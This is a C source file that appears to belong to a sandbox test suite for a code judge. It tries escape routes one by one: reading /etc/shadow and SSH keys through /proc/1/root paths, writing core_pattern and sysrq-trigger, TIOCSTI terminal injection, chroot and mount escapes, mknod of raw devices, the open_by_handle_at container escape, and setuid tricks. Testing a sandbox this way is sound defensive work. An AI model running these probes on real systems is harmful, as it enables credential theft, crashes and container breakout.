/* SPDX-License-Identifier: MIT
 *
 * attack_reach.c - reaching out of the box by names: files of the judge, /proc, devices, terminals.
 */
#include "attacker.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void try_read(const char *path)
{
    char buf[128];
    ssize_t n = slurp(path, buf, sizeof buf);
    if (n > 0)
        escaped("read %s: %.20s", path, buf);
    DIR *d = opendir(path);
    if (!d)
        return;
    int entries = 0;
    while (readdir(d))
        entries++;
    closedir(d);
    if (entries > 2)
        escaped("listed %s: %d entries", path, entries - 2);
}

/* args: files of the judge that exist outside. */
static int read_secrets(char **args)
{
    static const char *const known[] = {"/etc/shadow",
                                        "/etc/gshadow",
                                        "/root",
                                        "/home",
                                        "/var/lib",
                                        "/var/log",
                                        "/etc/ssh",
                                        "/etc/ssl/private",
                                        "/boot",
                                        "/sys",
                                        "/mnt",
                                        "/media",
                                        "/srv",
                                        "/dev/disk",
                                        "/run",
                                        "/etc/hosts",
                                        "/etc/machine-id",
                                        "/.oldroot",
                                        "/oldroot",
                                        "/.dockerenv"};
    static const char *const doors[] = {"",
                                        "../../../../../../..",
                                        "/proc/1/root",
                                        "/proc/self/root",
                                        "/proc/1/cwd/../../..",
                                        "/proc/self/cwd/../../..",
                                        "/proc/self/task/1/root",
                                        "/dev/fd/../../../..",
                                        "/proc/2/root",
                                        "/proc/thread-self/root/../.."};
    for (size_t d = 0; d < sizeof doors / sizeof doors[0]; d++) {
        char path[1024];
        for (size_t k = 0; k < sizeof known / sizeof known[0]; k++) {
            snprintf(path, sizeof path, "%s%s", doors[d], known[k]);
            try_read(path);
        }
        for (char **a = args; *a; a++) {
            snprintf(path, sizeof path, "%s%s", doors[d], *a);
            try_read(path);
        }
    }
    return 0;
}

static int probe_descriptors(char **args)
{
    (void)args;
    for (int fd = 3; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            escaped("descriptor %d is open", fd);
    for (int fd = 0; fd < 3; fd++) {
        struct stat st;
        if (fstat(fd, &st) == 0 && (S_ISDIR(st.st_mode) || S_ISSOCK(st.st_mode)))
            escaped("descriptor %d is a folder or a socket", fd);
    }
    return 0;
}

static void read_process(const char *pid)
{
    static const char *const files[] = {
        "environ", "cmdline", "maps",      "mem",    "status", "stat",  "root", "cwd",
        "exe",     "fd",      "mountinfo", "auxv",   "stack",  "wchan", "io",   "task",
        "ns/net",  "syscall", "limits",    "cgroup", "comm",   "fd/0"};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        char path[300], link[300] = "";
        snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
        if (readlink(path, link, sizeof link - 1) > 0)
            escaped("%s is %s", path, link);
        try_read(path);
    }
}

/* Nobody but ourselves should be there, and nothing about the machine. */
static int proc_of_others(char **args)
{
    (void)args;
    static const char *const machine[] = {
        "/proc/kcore",
        "/proc/kallsyms",
        "/proc/kmsg",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/proc/modules",
        "/proc/config.gz",
        "/proc/cmdline",
        "/proc/iomem",
        "/proc/interrupts",
        "/proc/sysrq-trigger",
        "/proc/diskstats",
        "/proc/mdstat",
        "/proc/locks",
        "/proc/slabinfo",
        "/proc/net/unix",
        "/proc/net/tcp",
        "/proc/1/net/unix",
        "/proc/partitions",
        "/proc/sysvipc/shm",
        "/proc/bus",
        "/proc/fs",
        "/proc/irq",
        "/proc/scsi",
        "/proc/acpi",
        "/proc/driver",
        "/proc/vmallocinfo",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/fs/file-nr",
        "/proc/sys/kernel/hostname",
        "/sys/kernel",
        "/sys/fs/cgroup",
        "/sys/firmware",
        "/sys/class/net",
    };
    for (size_t i = 0; i < sizeof machine / sizeof machine[0]; i++)
        try_read(machine[i]);
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    for (int pid = 1; pid < 400; pid++) {
        char name[16];
        snprintf(name, sizeof name, "%d", pid);
        if (strcmp(name, self) != 0)
            read_process(name);
    }
    return 0;
}

/* args: pieces of host paths that must not appear in what /proc says about ourselves. */
static int host_paths(char **args)
{
    static const char *const files[] = {
        "/proc/self/mountinfo", "/proc/self/mounts", "/proc/self/mountstats", "/proc/self/cgroup",
        "/proc/self/environ",   "/proc/self/maps",   "/proc/self/cmdline",    "/proc/self/limits"};
    static char buf[65536];
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        ssize_t n = slurp(files[i], buf, sizeof buf);
        for (ssize_t k = 0; k < n; k++)
            if (!buf[k])
                buf[k] = ' ';
        for (char **a = args; *a; a++) {
            char *hit = strcmp(files[i], "/proc/self/cmdline") == 0 ? NULL : strstr(buf, *a);
            if (hit)
                escaped("%s tells the host path %.80s", files[i], hit);
        }
    }
    if (slurp("/proc/self/cgroup", buf, sizeof buf) > 0)
        for (char *save = NULL, *l = strtok_r(buf, "\n", &save); l; l = strtok_r(NULL, "\n", &save))
            say("CGROUP %s", l);
    char link[512] = "";
    if (readlink("/proc/self/exe", link, sizeof link - 1) > 0)
        say("exe %s", link);
    for (char **a = args; *a; a++)
        if (strstr(link, *a))
            escaped("/proc/self/exe tells the host path %s", link);
    return 0;
}

static void try_write(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        held("%s: %s", path, strerror(errno));
        return;
    }
    if (write(fd, text, strlen(text)) >= 0)
        escaped("wrote '%s' to %s", text, path);
    else
        held("%s: %s", path, strerror(errno));
    close(fd);
}

static int write_proc(char **args)
{
    (void)args;
    try_write("/proc/self/oom_score_adj", "-1000");
    try_write("/proc/self/oom_score_adj", "-1");
    try_write("/proc/self/oom_adj", "-17");
    /* Lower than the 1000 it got would make the resident helper the better victim. */
    try_write("/proc/self/oom_score_adj", "0");
    try_write("/proc/self/uid_map", "0 0 1");
    try_write("/proc/self/gid_map", "0 0 1");
    try_write("/proc/self/setgroups", "allow");
    try_write("/proc/self/loginuid", "0");
    try_write("/proc/self/attr/current", "unconfined");
    try_write("/proc/self/autogroup", "-20");
    try_write("/proc/self/sched", "0");
    try_write("/proc/self/make-it-fail", "1");
    try_write("/proc/sys/kernel/core_pattern", "|/w/a");
    try_write("/proc/sys/kernel/hostname", "evil");
    try_write("/proc/sys/vm/drop_caches", "3");
    try_write("/proc/sys/kernel/ns_last_pid", "1");
    try_write("/proc/sysrq-trigger", "c");
    try_write("/sys/fs/cgroup/cgroup.procs", "0");
    try_write("/proc/1/oom_score_adj", "1000");
    return 0;
}

static int terminals(char **args)
{
    (void)args;
    static const char *const devices[] = {
        "/dev/tty",     "/dev/console",      "/dev/tty0",        "/dev/ptmx",
        "/dev/pts/0",   "/dev/pts/ptmx",     "/dev/kmsg",        "/dev/mem",
        "/dev/port",    "/dev/kvm",          "/dev/fuse",        "/dev/vsock",
        "/dev/net/tun", "/dev/loop-control", "/dev/userfaultfd", "/dev/vda",
        "/dev/sda",     "/dev/nvme0",        "/dev/rtc",         "/dev/watchdog",
        "/dev/uinput",  "/dev/snd",          "/dev/hpet",        "/dev/cuse",
        "/dev/autofs",  "/dev/btrfs-control"};
    for (size_t i = 0; i < sizeof devices / sizeof devices[0]; i++)
        must_not_work(devices[i], open(devices[i], O_RDONLY | O_NONBLOCK | O_NOCTTY));
    for (int fd = 0; fd < 3; fd++) {
        must_not_work("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
        must_not_work("TIOCSCTTY", ioctl(fd, TIOCSCTTY, 1));
        must_not_work("TIOCLINUX", ioctl(fd, TIOCLINUX, "\x02"));
        if (isatty(fd))
            escaped("descriptor %d is a terminal", fd);
        must_not_work("tcsetpgrp", tcsetpgrp(fd, getpgrp()));
    }
    must_not_work("syslog", syscall(SYS_syslog, 3, &(char[64]){0}, 64));
    must_not_work("vhangup", syscall(SYS_vhangup));
    return 0;
}

static int escape_root(char **args)
{
    (void)args;
    int root = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("jail", 0700);
    must_not_work("chroot", chroot("jail"));
    for (int i = 0; i < 50; i++)
        if (chdir("..") < 0)
            break;
    struct stat a, b;
    if (stat(".", &a) == 0 && fstat(root, &b) == 0 &&
        (a.st_ino != b.st_ino || a.st_dev != b.st_dev))
        escaped("the top of .. is not /");
    must_not_work("openat2 above", openat(root, "../../../../etc/shadow", O_RDONLY));
    must_not_work("pivot_root", syscall(SYS_pivot_root, ".", "."));
    must_not_work("umount /", umount2("/", MNT_DETACH));
    must_not_work("umount /proc", umount2("/proc", MNT_DETACH));
    must_not_work("mount over itself", mount("/w", "/w", NULL, MS_BIND, NULL));
    must_not_work("remount /usr", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    must_not_work("mknod sda", mknod("/w/sda", S_IFBLK | 0666, makedev(8, 0)));
    must_not_work("mknod mem", mknod("/w/mem", S_IFCHR | 0666, makedev(1, 1)));
    for (size_t i = 0; i < 8; i++) {
        static const char *const ro[] = {"/x",     "/usr/x", "/etc/x", "/proc/x",
                                         "/dev/x", "/bin/x", "/lib/x", "/usr/lib/x"};
        must_not_work(ro[i], open(ro[i], O_WRONLY | O_CREAT, 0600));
    }
    return 0;
}

static int open_by_handle(char **args)
{
    (void)args;
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } h = {.head = {.handle_bytes = 128}};
    int mount_id = 0;
    must_fail("name_to_handle_at",
              syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &h, &mount_id, 0));
    /* The root of an ext4 file system is inode 2: the old way out of a container. */
    h.head.handle_bytes = 8;
    h.head.handle_type = 1;
    memcpy(h.bytes, "\x02\0\0\0\0\0\0\0", 8);
    int at = open("/usr", O_RDONLY | O_DIRECTORY);
    must_fail("open_by_handle_at", syscall(SYS_open_by_handle_at, at, &h, O_RDONLY));
    return 0;
}

/* What a program is, from the inside. */
static int confined(char **args)
{
    (void)args;
    char buf[8192];
    if (slurp("/proc/self/status", buf, sizeof buf) < 0) {
        say("no /proc/self/status");
        return 0;
    }
    struct {
        const char *line;
        bool good;
    } facts[] = {
        {"Seccomp: 2", strstr(buf, "Seccomp:\t2")},
        {"NoNewPrivs: 1", strstr(buf, "NoNewPrivs:\t1")},
        {"CapEff: 0", strstr(buf, "CapEff:\t0000000000000000")},
        {"CapPrm: 0", strstr(buf, "CapPrm:\t0000000000000000")},
        {"CapInh: 0", strstr(buf, "CapInh:\t0000000000000000")},
        {"CapAmb: 0", strstr(buf, "CapAmb:\t0000000000000000")},
        {"CapBnd: 0", strstr(buf, "CapBnd:\t0000000000000000")},
        {"uid is not 0", getuid() != 0 && geteuid() != 0},
        {"gid is not 0", getgid() != 0 && getegid() != 0},
        {"no groups", getgroups(0, NULL) == 0},
        {"not pid 1", getpid() != 1},
    };
    for (size_t i = 0; i < sizeof facts / sizeof facts[0]; i++)
        if (!facts[i].good)
            escaped("not true: %s", facts[i].line);
    return 0;
}

static int setuid_programs(char **args)
{
    (void)args;
    static const char *const programs[] = {"/bin/su",      "/bin/mount",    "/usr/bin/passwd",
                                           "/bin/umount",  "/usr/bin/sudo", "/usr/bin/newgrp",
                                           "/usr/bin/chsh"};
    for (size_t i = 0; i < sizeof programs / sizeof programs[0]; i++) {
        struct stat st;
        if (stat(programs[i], &st) == 0 && (st.st_mode & S_ISUID))
            say("%s is there and setuid", programs[i]);
    }
    if (chmod("/w/a", 06755) == 0)
        say("made its program setuid");
    pid_t pid = fork();
    if (pid == 0) {
        execl("/w/a", "a", "confined", "setuid", (char *)NULL);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    pid = fork();
    if (pid == 0) {
        execl("/bin/su", "su", "-c", "echo ESCAPED: su works", (char *)NULL);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
    return 0;
}

/* A handler behind a pipe runs outside, as root, however small the limit: 0 does not stop it, 1
 * does (man 5 core), and the program may go from 1 to 0 by itself. */
static int core_dump(char **args)
{
    struct rlimit r;
    getrlimit(RLIMIT_CORE, &r);
    say("core limit %llu %llu", (unsigned long long)r.rlim_cur, (unsigned long long)r.rlim_max);
    if (r.rlim_max > 1)
        escaped("the hard limit of cores is %llu", (unsigned long long)r.rlim_max);
    if (args[0]) {
        /* Every way to say it: the old call, the new one, and with dirt in the upper half. */
        r.rlim_cur = r.rlim_max = 0;
        setrlimit(RLIMIT_CORE, &r);
        syscall(SYS_setrlimit, RLIMIT_CORE, &r);
        syscall(SYS_prlimit64, getpid(), RLIMIT_CORE, &r, NULL);
        syscall(SYS_prlimit64, 0x100000000l, RLIMIT_CORE | 0x100000000l, &r, NULL);
    }
    prctl(PR_SET_DUMPABLE, 1);
    abort();
}

const struct attack attacks_reach[] = {
    {"read_secrets", read_secrets, "files of the judge, by every door"},
    {"probe_descriptors", probe_descriptors, "inherited descriptors"},
    {"proc_of_others", proc_of_others, "/proc of others and of the machine"},
    {"host_paths", host_paths, "paths of the host in /proc/self"},
    {"write_proc", write_proc, "writes to /proc and cgroups"},
    {"terminals", terminals, "terminals, devices, kernel log"},
    {"escape_root", escape_root, "chroot, mounts, device nodes"},
    {"open_by_handle", open_by_handle, "files by handle"},
    {"confined", confined, "what it is, from the inside"},
    {"setuid_programs", setuid_programs, "programs that change the user"},
    {"core_dump", core_dump, "a core dump"},
    {NULL, NULL, NULL},
};
